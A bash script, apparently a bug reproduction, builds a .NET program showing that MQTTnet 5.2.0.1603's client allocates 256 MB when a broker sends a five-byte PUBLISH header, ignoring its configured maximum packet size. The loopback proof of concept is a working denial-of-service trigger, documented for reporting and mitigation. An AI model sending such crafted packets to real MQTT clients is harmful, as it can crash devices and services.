#!/usr/bin/env bash
# Five bytes of a broker make MQTTnet's client allocate a quarter of a gigabyte, whatever packet size it said it takes.
#
# Version:  MQTTnet 5.2.0.1603
# Input:    a client with WithMaximumPacketSize(1 MiB); a "broker" that answers CONNECT and then sends 30 FF FF FF 7F, the fixed header of a
#           PUBLISH of 268,435,455 bytes, and nothing more
# Expected: the connection is ended: MQTT 5, 3.1.2.11.4, a client that gets a packet larger than its maximum sends DISCONNECT with 0x95
# Seen:     an array of that length is made before any of it has come, the client stays connected and waits for it:
#             allocated 256 MB, connected: True
# Source:   MqttChannelAdapter.ReceiveAsync: new byte[bodyLength]; the maximum is only told to the broker
# So:       on a small computer a broker's mistake, or whoever sits on its port, ends the process; look at the lengths before the library does
#           (WithStreamProvider: a stream of one's own sees the bytes first).
set -euo pipefail
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
cd "$work"
cat >app.csproj <<'X'
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <OutputType>Exe</OutputType><TargetFramework>net10.0</TargetFramework><ImplicitUsings>enable</ImplicitUsings><Nullable>enable</Nullable>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="MQTTnet" Version="[5.2.0.1603]" />
  </ItemGroup>
</Project>
X
cat >Program.cs <<'X'
using System.Net;
using System.Net.Sockets;
using MQTTnet;

using var listener = new TcpListener(IPAddress.Loopback, 0);
listener.Start();
var options = new MqttClientOptionsBuilder().WithTcpServer("127.0.0.1", ((IPEndPoint)listener.LocalEndpoint).Port).WithMaximumPacketSize(1024 * 1024).Build();
using var client = new MqttClientFactory().CreateMqttClient();
var connecting = client.ConnectAsync(options);
using var broker = await listener.AcceptSocketAsync();
await broker.ReceiveAsync(new byte[1024]);
await broker.SendAsync(new byte[] { 0x20, 3, 0, 0, 0 });
await connecting;
var before = GC.GetTotalAllocatedBytes(precise: true);
await broker.SendAsync(new byte[] { 0x30, 0xFF, 0xFF, 0xFF, 0x7F });
for (var i = 0; i < 100 && client.IsConnected && GC.GetTotalAllocatedBytes(precise: true) - before < 200_000_000; i++)
    await Task.Delay(50);
Console.WriteLine($"allocated {(GC.GetTotalAllocatedBytes(precise: true) - before) / 1024 / 1024} MB, connected: {client.IsConnected}");
Environment.Exit(0);
X
dotnet build -c Release -v quiet --nologo -o out >build.log 2>&1 || { cat build.log; exit 1; }
seen="$(dotnet out/app.dll)"
echo "$seen"
[ "$seen" = "allocated 256 MB, connected: True" ] || { echo "This has changed."; exit 1; }
